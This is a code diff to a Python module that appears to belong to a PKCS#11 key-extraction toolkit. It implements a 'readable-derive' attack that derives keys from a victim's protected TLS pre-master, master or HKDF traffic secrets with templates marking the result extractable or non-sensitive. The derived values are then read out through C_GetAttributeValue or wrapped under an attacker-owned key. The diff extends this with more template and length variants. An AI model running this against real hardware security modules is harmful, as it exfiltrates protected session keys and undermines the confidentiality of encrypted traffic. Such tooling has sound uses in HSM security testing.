@@ -1,7 +1,8 @@
 """readable-derive: the key again, this time not sensitive, because the template says so or says nothing."""
 
 from collections.abc import Iterator, Mapping
-from typing import Final
+from itertools import product
+from typing import ClassVar, Final
 
 from keyfence.cryptoki import CryptokiError, KeyMaterial, Mechanism
 from keyfence.cryptoki.constants import CKK, CKM
@@ -17,10 +18,13 @@ from .opening import secret_layout
 from .recovery import Master, Recovery, Source, StreamBytes
 from .targets import VICTIM, Target, target_of
 from .victim import Kind, Victim
+from .wrapping import read
 
 _ASKED: Final[Mapping[str, bool]] = {"sensitive": False, "extractable": True}
+_MAY_LEAVE: Final[Mapping[str, bool]] = {"extractable": True}
 _SILENT: Final[Mapping[str, bool]] = {"encrypt": True}  # CKA_SENSITIVE and CKA_EXTRACTABLE left out
-_TEMPLATES: Final = (_ASKED, _SILENT)
+_TEMPLATES: Final = (_ASKED, _MAY_LEAVE, _SILENT)
+_READ: Final = "C_GetAttributeValue(CKA_VALUE), or C_WrapKey under a key of our own"
 
 
 class ReadableDerive(Technique):
@@ -54,6 +58,10 @@ class _OneCall(Attack):
         self.victim = victim
         self.mechanism = mechanism
         self._template: Mapping[str, bool] = _ASKED
+        self._says_length = True
+
+    lengths: ClassVar[tuple[bool, ...]] = (True,)
+    """Whether to say CKA_VALUE_LEN, in the order to try; modules differ in whether they want it where it is fixed."""
 
     @property
     def requires(self) -> tuple[int, ...]:
@@ -62,11 +70,11 @@ class _OneCall(Attack):
     def probe(self, bench: Bench) -> Offer:
         """Which template makes a readable key, tried on a secret of our own."""
         base, refusals = self.own_base(bench), list[CryptokiError]()
-        for template in _TEMPLATES:
-            self._template = template
+        for template, says_length in product(_TEMPLATES, self.lengths):
+            self._template, self._says_length = template, says_length
             try:
                 with bench.session.scope():
-                    self.read(bench, base)
+                    self.derive(bench, base)
             except CryptokiError as refusal:
                 refusals.append(refusal)
                 continue
@@ -85,7 +93,7 @@ class _OneCall(Attack):
         """A base key of our own, protected as the victim's is."""
         return bench.rehearsal(self.victim).handle
 
-    def read(self, bench: Bench, base: int) -> Recovery:
+    def derive(self, bench: Bench, base: int) -> Recovery:
         """Derives from `base` and reads what came."""
         raise NotImplementedError
 
@@ -102,9 +110,9 @@ class ReadableKeyMat(_OneCall):
         return self.target.slices
 
     def execute(self, bench: Bench, chain: Chain) -> Recovery:
-        return self.read(bench, self.target.secret)
+        return self.derive(bench, self.target.secret)
 
-    def read(self, bench: Bench, base: int) -> Recovery:
+    def derive(self, bench: Bench, base: int) -> Recovery:
         suite = self.victim.suite
         made = Cutter(bench, self.mechanism, self.victim).cut(base, self._request, suite.mac_key, 0, **self._template)
         if self.victim.kind is Kind.SEPARATED:
@@ -112,7 +120,7 @@ class ReadableKeyMat(_OneCall):
         known: dict[int, int] = {}
         for part, (start, stop) in secret_layout(self.victim).items():
             if start < stop:
-                value = bench.session.value(_handle(made, part))
+                value = read(bench, _handle(made, part))
                 known |= dict(zip(range(start, stop), value, strict=False))
         return StreamBytes(known, dict.fromkeys(known, Source.READABLE))
 
@@ -124,22 +132,26 @@ class ReadableKeyMat(_OneCall):
 
     def steps(self, chain: Chain) -> tuple[str, ...]:
         cut = describe_cut(self.mechanism, self._request, self.victim.suite.mac_key, 0)
-        return (f"{cut[:-1]}, {_describe(self._template)})", "C_GetAttributeValue(CKA_VALUE) of each key")
+        return (f"{cut[:-1]}, {_describe(self._template)})", f"{_READ}: each key")
 
 
 def _handle(made: KeyMaterial, part: Part) -> int:
-    return {
+    handle = {
         Part.CLIENT_MAC: made.client_mac,
         Part.SERVER_MAC: made.server_mac,
         Part.CLIENT_KEY: made.client_key,
         Part.SERVER_KEY: made.server_key,
     }[part]
+    if not handle:
+        raise Inconclusive(f"the module answered CKR_OK and made no {part}")
+    return handle
 
 
 class ReadableMaster(_OneCall):
     """The master secret from the pre-master secret, readable."""
 
     key = "master secret"
+    lengths = (False, True)
 
     def __init__(self, victim: Victim) -> None:
         super().__init__(victim, master_mechanism(victim.profile))
@@ -158,17 +170,18 @@ class ReadableMaster(_OneCall):
         return bench.pre_master(self.victim)
 
     def execute(self, bench: Bench, chain: Chain) -> Recovery:
-        return self.read(bench, self.victim.handles.pre_master)
+        return self.derive(bench, self.victim.handles.pre_master)
 
-    def read(self, bench: Bench, base: int) -> Recovery:
-        template = secret_key(CKK.GENERIC_SECRET, None, derive=True, **_without_encrypt(self._template))
+    def derive(self, bench: Bench, base: int) -> Recovery:
+        length = self._length if self._says_length else None
+        template = secret_key(CKK.GENERIC_SECRET, length, derive=True, **_without_encrypt(self._template))
         parameters = master_parameters(self.victim.profile, self.victim.client_random, self.victim.server_random)
         handle = bench.session.derive(Mechanism(self.mechanism, parameters), base, template).handle
-        return Master(bench.session.value(handle))
+        return Master(read(bench, handle))
 
     def steps(self, chain: Chain) -> tuple[str, ...]:
         name = str(CKM(self.mechanism))
-        return (f"C_DeriveKey({name}, base = pre-master secret, {_describe(self._template)})", "C_GetAttributeValue(CKA_VALUE)")
+        return (f"C_DeriveKey({name}, base = pre-master secret, {_describe(self._template)})", _READ)
 
 
 class ReadableHkdf(_OneCall):
@@ -188,20 +201,20 @@ class ReadableHkdf(_OneCall):
         return self.target.slices
 
     def execute(self, bench: Bench, chain: Chain) -> Recovery:
-        return self.read(bench, self.victim.handles.traffic[Side.CLIENT])
+        return self.derive(bench, self.victim.handles.traffic[Side.CLIENT])
 
-    def read(self, bench: Bench, base: int) -> Recovery:
+    def derive(self, bench: Bench, base: int) -> Recovery:
         length = self.target.length
         info = HkdfLabel(length, b"key", b"").encode()
         parameters = Hkdf(extract=False, expand=True, prf_hash=int(self.victim.prf_hash.ckm), info=info)
         template = secret_key(self.target.key_type, length, **self._template)
         handle = bench.session.derive(Mechanism(CKM.HKDF_DERIVE, parameters), base, template).handle
-        return self.target.recovery(bench.session.value(handle), Source.READABLE)
+        return self.target.recovery(read(bench, handle), Source.READABLE)
 
     def steps(self, chain: Chain) -> tuple[str, ...]:
         return (
             f'C_DeriveKey(CKM_HKDF_DERIVE, expand, info = HkdfLabel("key"), {_describe(self._template)})',
-            "C_GetAttributeValue(CKA_VALUE)",
+            _READ,
         )
 
 
@@ -212,4 +225,4 @@ def _without_encrypt(template: Mapping[str, bool]) -> Mapping[str, bool]:
 def _describe(template: Mapping[str, bool]) -> str:
     if template is _SILENT:
         return "CKA_SENSITIVE and CKA_EXTRACTABLE left out"
-    return "CKA_SENSITIVE=FALSE, CKA_EXTRACTABLE=TRUE"
+    return "CKA_EXTRACTABLE=TRUE" if template is _MAY_LEAVE else "CKA_SENSITIVE=FALSE, CKA_EXTRACTABLE=TRUE"
